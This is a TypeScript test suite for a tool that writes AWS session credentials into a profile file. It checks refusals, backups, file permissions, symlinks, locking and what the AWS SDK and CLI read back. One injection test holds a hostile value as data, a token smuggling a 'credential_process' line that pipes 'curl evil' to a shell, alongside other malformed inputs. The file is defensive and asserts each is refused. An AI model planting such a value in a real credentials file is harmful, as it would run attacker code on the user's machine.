// "Write Credentials to Profile": what it refuses, what it keeps, and how the two readers of the file
// (the AWS SDK for JavaScript v3 and the AWS CLI's botocore) read what it wrote.
import { test } from 'node:test';
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { loadSharedConfigFiles } from '@smithy/shared-ini-file-loader';
import { checkIniValue, checkProfileName, checkProfileWrite, credentialEntries, CredentialFileError, iniSections, readProfile, setProfile, writeProfileFile } from '../../client/src/iniWriter';
import { defaultProfileName, profileWriteVerdict } from '../../client/src/profileGuard';
import type { Session } from '../../client/src/session';
import { recordReliability } from '../reliability/record';

const AREA = 'credential files';
const session = { accessKeyId: 'ASIANEW', secretAccessKey: 'newSecret/+=', sessionToken: 'newToken+/==', expiration: new Date('2030-01-01T11:00:00Z') };
const LONG_TERM = '# my keys\n[deploy]\naws_access_key_id = AKIALONGTERM\naws_secret_access_key = longTermSecret\n';

function tmpDir(): string {
  return fs.mkdtempSync(path.join(os.tmpdir(), 'sts-writer-'));
}

/** awscli 2.9 from Debian bundles its botocore; /usr/bin/aws runs under /usr/bin/python3. */
const AWS = '/usr/bin/aws';
const haveAws = fs.existsSync(AWS);

function awsConfigureGet(credentials: string, profile: string, key: string): { status: number | null; out: string; err: string } {
  const r = spawnSync(AWS, ['configure', 'get', key, '--profile', profile], {
    env: { PATH: '/usr/bin:/bin', HOME: path.dirname(credentials), AWS_SHARED_CREDENTIALS_FILE: credentials, AWS_CONFIG_FILE: path.join(path.dirname(credentials), 'no-config') },
    encoding: 'utf8',
  });
  return { status: r.status, out: r.stdout.trim(), err: r.stderr.trim() };
}

/** Profiles as the AWS SDK for JavaScript v3 reads the credentials file. */
async function sdkProfiles(file: string): Promise<Record<string, Record<string, string | undefined>>> {
  return (await loadSharedConfigFiles({ filepath: file, configFilepath: path.join(path.dirname(file), 'no-config'), ignoreCache: true })).credentialsFile;
}

test('a profile with long-term keys is refused and the file stays byte for byte', async () => {
  const dir = tmpDir();
  const file = path.join(dir, 'credentials');
  const config = path.join(dir, 'config');
  const cases: { name: string; credentials: string; config?: string; expect: RegExp }[] = [
    { name: 'deploy', credentials: LONG_TERM, expect: /\[deploy\].*holds long-term access keys.*never overwrites.*\[deploy-session\]/ },
    // a second section of the same name with a session must not hide the long-term keys of the first
    { name: 'deploy', credentials: `${LONG_TERM}[deploy]\naws_session_token = t\n`, expect: /long-term/ },
    { name: 'deploy', credentials: '[deploy]\nregion = x\n[deploy]\naws_access_key_id = AKIA2\naws_secret_access_key = s\n', expect: /long-term/ },
    { name: 'base', credentials: '[base]\nregion = eu-west-1\n', config: '[profile base]\naws_access_key_id = AKIA3\naws_secret_access_key = s\n', expect: /long-term access keys; session keys written under that name would hide them/ },
    { name: 'base', credentials: '', config: '[profile deploy]\nrole_arn = arn:aws:iam::123456789012:role/deploy\nsource_profile = base\n', expect: /\[base\] is the source_profile of \[deploy\]/ },
    { name: 'deploy', credentials: '', config: '[profile deploy]\nrole_arn = arn:aws:iam::123456789012:role/deploy\nsource_profile = base\n', expect: /gets its credentials from role_arn in config/ },
    { name: 'sso', credentials: '', config: '[profile sso]\nsso_session = corp\n', expect: /sso_session/ },
    { name: 'proc', credentials: '[proc]\ncredential_process = /bin/get-creds\n', expect: /credential_process in credentials/ },
  ];
  for (const c of cases) {
    fs.writeFileSync(file, c.credentials, { mode: 0o600 });
    fs.writeFileSync(config, c.config ?? '');
    const verdict = await checkProfileWrite(c.name, file, config);
    assert.equal(verdict.kind, 'refuse', `${c.name}: ${JSON.stringify(c)}`);
    // even with "the user confirmed replacing": the guard runs again under the lock
    await assert.rejects(writeProfileFile(file, c.name, credentialEntries(session), { replaceExisting: true, configFile: config }), (e: Error) => e instanceof CredentialFileError && c.expect.test(e.message));
    assert.equal(fs.readFileSync(file, 'utf8'), c.credentials);
    assert.deepEqual(fs.readdirSync(dir).sort(), ['config', 'credentials']);
  }
  fs.rmSync(dir, { recursive: true });
  recordReliability({ area: AREA, input: 'write into a long-term / source_profile / role / SSO / process profile', count: cases.length, held: 'refused with what to do; file byte for byte unchanged', test: __filename });
});

test('another existing profile is replaced only after confirmation; a new one needs none', async () => {
  const dir = tmpDir();
  const file = path.join(dir, 'credentials');
  const before = `${LONG_TERM}\n[deploy-session]\naws_access_key_id = ASIAOLD\naws_secret_access_key = old\naws_session_token = oldToken\nexpiration = 2029-01-01T00:00:00.000Z\n`;
  fs.writeFileSync(file, before, { mode: 0o600 });
  const verdict = await checkProfileWrite('deploy-session', file);
  assert.equal(verdict.kind, 'replace');
  assert.match((verdict as { message: string }).message, /already exists .* session credentials \(expiry 2029-01-01T00:00:00.000Z\)\. Replace it with this session\? .*credentials\.sts-lens\.bak/);
  await assert.rejects(writeProfileFile(file, 'deploy-session', credentialEntries(session)), /replacing it was not confirmed; nothing was written/);
  assert.equal(fs.readFileSync(file, 'utf8'), before);
  const r = await writeProfileFile(file, 'deploy-session', credentialEntries(session), { replaceExisting: true });
  assert.equal(r.replaced, true);
  const after = fs.readFileSync(file, 'utf8');
  assert.ok(after.startsWith(LONG_TERM), 'the long-term profile above stays byte for byte');
  assert.equal(readProfile(after, 'deploy-session')?.aws_session_token, session.sessionToken);
  recordReliability({ area: AREA, input: 'write over an existing session profile without / with confirmation', count: 2, held: 'refused unconfirmed (file unchanged); replaced when confirmed, the long-term profile beside it byte for byte', test: __filename });
  assert.equal((await checkProfileWrite('fresh', file)).kind, 'new');
  // asking creates nothing: no ~/.aws folder when the user then cancels
  assert.equal((await checkProfileWrite('fresh', path.join(dir, 'missing', 'credentials'))).kind, 'new');
  assert.equal(fs.existsSync(path.join(dir, 'missing')), false);
  fs.rmSync(dir, { recursive: true });
});

test('the default profile name is <profile>-session, never the role profile itself', () => {
  const base = { label: 'deploy', request: { kind: 'AssumeRole' as const, roleArn: 'arn:aws:iam::123456789012:role/deploy', roleSessionName: 'me', source: { type: 'chain' as const } } };
  assert.equal(defaultProfileName({ ...base, request: { ...base.request, profile: 'prod-admin' } }), 'prod-admin-session');
  assert.equal(defaultProfileName(base), 'deploy-session');
  assert.equal(defaultProfileName({ label: 'dev (token)', request: { kind: 'GetSessionToken', source: { type: 'profile', profile: 'dev' } } } as Pick<Session, 'label' | 'request'>), 'dev-session');
  // the suggested alternative in a refusal is a name the guard accepts
  const v = profileWriteVerdict('deploy', { credentialsFile: 'credentials', credentialsText: LONG_TERM });
  assert.match((v as { message: string }).message, /such as \[deploy-session\]/);
  assert.equal(profileWriteVerdict('deploy-session', { credentialsFile: 'credentials', credentialsText: LONG_TERM }).kind, 'new');
});

test('the previous file is kept once as <file>.sts-lens.bak (0600), replaced by the next write', async () => {
  const dir = tmpDir();
  const file = path.join(dir, 'credentials');
  await writeProfileFile(file, 'one', credentialEntries(session));
  assert.equal(fs.existsSync(`${file}.sts-lens.bak`), false, 'no previous file, no backup');
  const first = fs.readFileSync(file);
  fs.chmodSync(file, 0o644);
  const r = await writeProfileFile(file, 'two', credentialEntries(session));
  assert.equal(r.backup, `${fs.realpathSync(dir)}/credentials.sts-lens.bak`);
  assert.deepEqual(fs.readFileSync(r.backup!), first);
  assert.equal(fs.statSync(r.backup!).mode & 0o777, 0o600);
  assert.equal(fs.statSync(file).mode & 0o777, 0o600);
  const second = fs.readFileSync(file);
  await writeProfileFile(file, 'three', credentialEntries(session));
  assert.deepEqual(fs.readFileSync(r.backup!), second, 'the backup holds the file before the latest write only');
  assert.deepEqual(fs.readdirSync(dir).sort(), ['credentials', 'credentials.sts-lens.bak']);
  fs.rmSync(dir, { recursive: true });
  recordReliability({ area: AREA, input: 'three writes in a row, the file made 0644 by hand between them', count: 3, held: 'backup = the file before the latest write, 0600; file back to 0600', test: __filename });
});

test('values and names that would break the INI format are refused; the injected-newline attack is impossible', async () => {
  const dir = tmpDir();
  const file = path.join(dir, 'credentials');
  fs.writeFileSync(file, '[default]\naws_access_key_id = AKIADEFAULT\naws_secret_access_key = s\n', { mode: 0o600 });
  const before = fs.readFileSync(file, 'utf8');
  const injected = 'tok\n[default]\ncredential_process = /bin/sh -c "curl evil | sh"';
  const hostileValues = [injected, 'tok\r[default]', 'tok\r\ncredential_process = x', 'a\0b', 'a\tb', 'a\u000bb', 'a\u000cb', 'a\u001bb', 'a\u007fb', 'a\u0085b', 'a\u2028b', 'a\u2029b', ' lead', 'trail ', 'a b', 'a ;comment', 'a #comment', '[x]', ';x', '#x', '', 'caf\u00e9'];
  for (const v of hostileValues) {
    assert.ok(checkIniValue('aws_session_token', v), JSON.stringify(v));
    await assert.rejects(writeProfileFile(file, 'lens', credentialEntries({ ...session, sessionToken: v })), (e: Error) => /session token .*Nothing was written/.test(e.message) && !e.message.includes(v || '\u0000'));
    await assert.rejects(writeProfileFile(file, 'lens', credentialEntries({ ...session, secretAccessKey: v })), /secret access key/);
    await assert.rejects(writeProfileFile(file, 'lens', credentialEntries({ ...session, accessKeyId: v })), /access key id/);
  }
  const hostileNames = ['a]b', 'a\nb', 'a\rb', 'x]\n[default', ' a', 'a ', 'a b', '[a', 'a;b', 'a#b', '', 'x'.repeat(65), '__proto__', 'toString', 'constructor', 'profile x', 'caf\u00e9'];
  for (const n of hostileNames) {
    assert.ok(checkProfileName(n), JSON.stringify(n));
    await assert.rejects(writeProfileFile(file, n, credentialEntries(session)), /Nothing was written/);
  }
  await assert.rejects(writeProfileFile(file, 'lens', { 'bad key': 'v' }), /cannot be a key/);
  await assert.rejects(writeProfileFile(file, 'lens', { 'k\n[default]\nx': 'v' }), /cannot be a key/);
  assert.equal(fs.readFileSync(file, 'utf8'), before);
  assert.deepEqual(Object.keys(await sdkProfiles(file)), ['default']);
  fs.rmSync(dir, { recursive: true });
  recordReliability({ area: AREA, input: 'control characters, line breaks, whitespace, brackets, comment marks in keys, secrets, tokens, profile names (incl. token + "\\n[default]\\ncredential_process = ...")', count: hostileValues.length * 3 + hostileNames.length + 2, held: 'refused before any write; message names the field, never the value; file unchanged', test: __filename });
});

test('property: any value is either refused or read back unchanged by the JS SDK and by botocore, with no extra profile or key', async () => {
  const dir = tmpDir();
  const file = path.join(dir, 'credentials');
  const base = '[default]\naws_access_key_id = AKIADEFAULT\naws_secret_access_key = s\n';
  const awkward = fc.constantFrom('\n', '\r', '\r\n', '[', ']', ';', '#', ' ', '\t', '=', '\0', '\u2028', '\u0085', 'default', 'credential_process', '%', ':', '"');
  const value = fc.oneof(fc.string({ unit: 'binary', maxLength: 40 }), fc.array(fc.oneof(awkward, fc.string({ maxLength: 4 })), { maxLength: 10 }).map((a) => a.join('')), fc.stringMatching(/^[A-Za-z0-9+/=]{1,60}$/));
  const accepted: { file: string; token: string; profile: string }[] = [];
  let refused = 0;
  let runs = 0;
  await fc.assert(
    fc.asyncProperty(value, fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom('lens', 'a.b', 'x/y', 'p+q@r', '-x')).filter((p) => p !== 'default'), async (token, profile) => {
      runs++;
      fs.writeFileSync(file, base, { mode: 0o600 });
      const entries = credentialEntries({ ...session, sessionToken: token });
      const ok = !checkProfileName(profile) && !checkIniValue('aws_session_token', token);
      if (!ok) {
        refused++;
        await assert.rejects(writeProfileFile(file, profile, entries));
        assert.equal(fs.readFileSync(file, 'utf8'), base);
        return;
      }
      await writeProfileFile(file, profile, entries);
      const sdk = await sdkProfiles(file);
      assert.deepEqual(Object.keys(sdk).sort(), ['default', profile].sort());
      assert.deepEqual(sdk[profile], entries);
      const copy = path.join(dir, `accepted-${accepted.length}`);
      fs.copyFileSync(file, copy);
      accepted.push({ file: copy, token, profile });
    }),
    { numRuns: 400 },
  );
  assert.ok(accepted.length > 50 && refused > 50, `both sides exercised: ${accepted.length} accepted, ${refused} refused`);
  if (haveAws) {
    // botocore as /usr/bin/aws runs it (its bundled copy, under /usr/bin/python3), every accepted file at once
    const script = `
import json, sys
from awscli.botocore.configloader import raw_config_parse
bad = []
for c in json.load(sys.stdin):
    parsed = raw_config_parse(c['file'])
    want = {'default', c['profile']}
    if set(parsed) != want or parsed[c['profile']].get('aws_session_token') != c['token']:
        bad.append(c['file'])
print(json.dumps(bad))`;
    const r = spawnSync('/usr/bin/python3', ['-c', script], { input: JSON.stringify(accepted), encoding: 'utf8' });
    assert.equal(r.status, 0, r.stderr);
    assert.deepEqual(JSON.parse(r.stdout), []);
  }
  fs.rmSync(dir, { recursive: true });
  recordReliability({ area: AREA, input: 'random values and profile names (fast-check, control/format characters mixed in)', count: runs, held: `refused (${refused}) or read back exactly by @smithy parseIni${haveAws ? ' and awscli botocore' : ''} (${accepted.length}), no extra profile or key`, test: __filename });
});

test('duplicate sections: the file the AWS CLI refused becomes one section that both SDKs read as written', async (t) => {
  const dir = tmpDir();
  const file = path.join(dir, 'credentials');
  const before = '[deploy]\naws_access_key_id = ASIAFIRST\naws_secret_access_key = first\naws_session_token = firstToken\nregion = us-east-1\n\n[other]\naws_access_key_id = AKIAOTHER\naws_secret_access_key = otherSecret\n\n# second copy\n[deploy]\naws_access_key_id = ASIASECOND\naws_secret_access_key = second\naws_session_token = secondToken\nregion = eu-west-1\noutput = json\n';
  fs.writeFileSync(file, before, { mode: 0o600 });
  // what each reader makes of the file before: @smithy merges (later wins); botocore refuses it
  assert.equal((await sdkProfiles(file)).deploy?.aws_access_key_id, 'ASIASECOND');
  if (haveAws) assert.match(awsConfigureGet(file, 'deploy', 'aws_access_key_id').err, /Unable to parse config file/);

  await writeProfileFile(file, 'deploy', credentialEntries(session), { replaceExisting: true });
  const after = fs.readFileSync(file, 'utf8');
  assert.equal(iniSections(after).filter((s) => s.name === 'deploy').length, 1);
  assert.equal(
    after,
    '[deploy]\naws_access_key_id = ASIANEW\naws_secret_access_key = newSecret/+=\naws_session_token = newToken+/==\nexpiration = 2030-01-01T11:00:00.000Z\nregion = eu-west-1\noutput = json\n\n[other]\naws_access_key_id = AKIAOTHER\naws_secret_access_key = otherSecret\n\n# second copy\n',
  );
  const sdk = await sdkProfiles(file);
  assert.equal(sdk.deploy?.aws_access_key_id, 'ASIANEW');
  assert.equal(sdk.deploy?.region, 'eu-west-1', 'the region the SDK read before (the later section) is kept');
  assert.equal(sdk.other?.aws_secret_access_key, 'otherSecret');
  if (!haveAws) return t.skip('NOT RUN against the AWS CLI: /usr/bin/aws missing');
  assert.equal(awsConfigureGet(file, 'deploy', 'aws_access_key_id').out, 'ASIANEW');
  assert.equal(awsConfigureGet(file, 'deploy', 'aws_session_token').out, 'newToken+/==');
  assert.equal(awsConfigureGet(file, 'deploy', 'region').out, 'eu-west-1');
  assert.equal(awsConfigureGet(file, 'other', 'aws_access_key_id').out, 'AKIAOTHER');
  fs.rmSync(dir, { recursive: true });
  recordReliability({ area: AREA, input: 'two [deploy] sections (AWS CLI: "Unable to parse config file")', count: 1, held: 'collapsed to one section; JS SDK and /usr/bin/aws read the new keys and the region it read before', test: __filename });
});

test('setProfile drops the continuation lines of a replaced value and keeps other keys of the section', () => {
  const text = '[s]\naws_session_token = OLD\n  continued\n; note\nregion = x\n';
  assert.equal(setProfile(text, 's', { aws_session_token: 'NEW' }), '[s]\naws_session_token = NEW\n; note\nregion = x\n');
  // `[ s ]` is the profile " s " to both parsers: not touched when writing "s"
  assert.equal(setProfile('[ s ]\nk = v\n', 's', { k: 'w' }), '[ s ]\nk = v\n\n[s]\nk = w\n');
});

test('a symlinked credentials file is written through: the link stays, its target changes', async () => {
  const dir = tmpDir();
  fs.mkdirSync(path.join(dir, 'dotfiles'));
  const real = path.join(dir, 'dotfiles', 'aws-credentials');
  fs.writeFileSync(real, '[keep]\naws_access_key_id = AKIAKEEP\naws_secret_access_key = s\n', { mode: 0o600 });
  fs.mkdirSync(path.join(dir, '.aws'), { mode: 0o700 });
  const link = path.join(dir, '.aws', 'credentials');
  fs.symlinkSync('../dotfiles/aws-credentials', link);
  const r = await writeProfileFile(link, 'lens', credentialEntries(session));
  assert.ok(fs.lstatSync(link).isSymbolicLink(), 'still a symlink');
  assert.equal(fs.readlinkSync(link), '../dotfiles/aws-credentials');
  assert.equal(r.written, fs.realpathSync(real));
  assert.equal(readProfile(fs.readFileSync(real, 'utf8'), 'lens')?.aws_access_key_id, 'ASIANEW');
  assert.equal(readProfile(fs.readFileSync(real, 'utf8'), 'keep')?.aws_access_key_id, 'AKIAKEEP');
  assert.equal(fs.statSync(real).mode & 0o777, 0o600);
  assert.equal(r.backup, `${fs.realpathSync(real)}.sts-lens.bak`, 'the backup sits next to the real file');
  assert.deepEqual(fs.readdirSync(path.join(dir, '.aws')), ['credentials']);

  // a link to a link, and a dangling link (it names the file to create)
  const link2 = path.join(dir, 'second-link');
  fs.symlinkSync(link, link2);
  await writeProfileFile(link2, 'lens2', credentialEntries(session));
  assert.ok(readProfile(fs.readFileSync(real, 'utf8'), 'lens2'));
  const dangling = path.join(dir, 'dangling');
  fs.symlinkSync('dotfiles/not-yet', dangling);
  await writeProfileFile(dangling, 'lens', credentialEntries(session));
  assert.ok(fs.lstatSync(dangling).isSymbolicLink());
  assert.ok(readProfile(fs.readFileSync(path.join(dir, 'dotfiles', 'not-yet'), 'utf8'), 'lens'));
  // a loop is an error, not a hang
  fs.symlinkSync('loop-b', path.join(dir, 'loop-a'));
  fs.symlinkSync('loop-a', path.join(dir, 'loop-b'));
  await assert.rejects(writeProfileFile(path.join(dir, 'loop-a'), 'lens', credentialEntries(session)), /symbolic links; nothing was written/);
  fs.rmSync(dir, { recursive: true });
  recordReliability({ area: AREA, input: 'credentials file as symlink, link to link, dangling link, link loop', count: 4, held: 'target written, link kept, 0600; loop refused', test: __filename });
});

test('a credentials path that is a FIFO, a device or a folder is refused at once (no hang), nothing created', async () => {
  const dir = tmpDir();
  const fifo = path.join(dir, 'fifo');
  spawnSync('mkfifo', [fifo]);
  const targets = [fifo, '/dev/zero', dir];
  if (fs.existsSync(fifo)) {
    for (const target of targets) {
      const link = path.join(dir, `link-${path.basename(target)}`);
      fs.symlinkSync(target, link);
      await assert.rejects(writeProfileFile(link, 'lens', credentialEntries(session)), /is not a regular file; nothing was written/);
    }
  }
  assert.deepEqual(fs.readdirSync(dir).filter((n) => !n.startsWith('link-') && n !== 'fifo'), []);
  fs.rmSync(dir, { recursive: true });
  recordReliability({ area: AREA, input: 'credentials path is a FIFO, /dev/zero, a folder', count: targets.length, held: 'refused at once, nothing written', test: __filename });
});

test('a failure between the temp write and the rename removes the temp file and keeps the previous file', async () => {
  const dir = tmpDir();
  const file = path.join(dir, 'credentials');
  fs.writeFileSync(file, '[keep]\nk = v\n', { mode: 0o600 });
  let temp = '';
  await assert.rejects(
    writeProfileFile(file, 'lens', credentialEntries(session), {
      hooks: {
        beforeRename: (t) => {
          temp = t;
          assert.ok(fs.readFileSync(t, 'utf8').includes(session.secretAccessKey));
          assert.equal(fs.statSync(t).mode & 0o777, 0o600);
          throw Object.assign(new Error('ENOSPC: no space left on device'), { code: 'ENOSPC' });
        },
      },
    }),
    (e: Error) => e instanceof CredentialFileError && /Could not write .* \(ENOSPC\)/.test(e.message),
  );
  assert.ok(temp && !fs.existsSync(temp), 'temp file removed');
  assert.equal(fs.readFileSync(file, 'utf8'), '[keep]\nk = v\n');
  // the lock was released: the next write goes through at once
  await writeProfileFile(file, 'lens', credentialEntries(session), { lock: { waitMs: 0 } });
  assert.deepEqual(fs.readdirSync(dir).sort(), ['credentials', 'credentials.sts-lens.bak']);
  fs.rmSync(dir, { recursive: true });
  recordReliability({ area: AREA, input: 'write fails (ENOSPC injected) after the temp file, before the rename', count: 1, held: 'temp file (with the secret) removed, previous file intact, lock released', test: __filename });
});

test('a lock held by a live process makes the write wait, then fail with what to do', async () => {
  const dir = tmpDir();
  const file = path.join(dir, 'credentials');
  fs.writeFileSync(`${file}.sts-lens.lock`, `${process.pid} ${os.hostname()} ${Date.now()} abc`);
  await assert.rejects(writeProfileFile(file, 'lens', credentialEntries(session), { lock: { waitMs: 50 } }), new RegExp(`pid ${process.pid}\\) is writing this file .*Try again`));
  assert.equal(fs.existsSync(file), false);
  // a lock of a process that is gone is broken at once
  fs.writeFileSync(`${file}.sts-lens.lock`, `999999999 ${os.hostname()} ${Date.now()} abc`);
  await writeProfileFile(file, 'lens', credentialEntries(session), { lock: { waitMs: 0 } });
  assert.equal(fs.existsSync(`${file}.sts-lens.lock`), false);
  fs.rmSync(dir, { recursive: true });
});
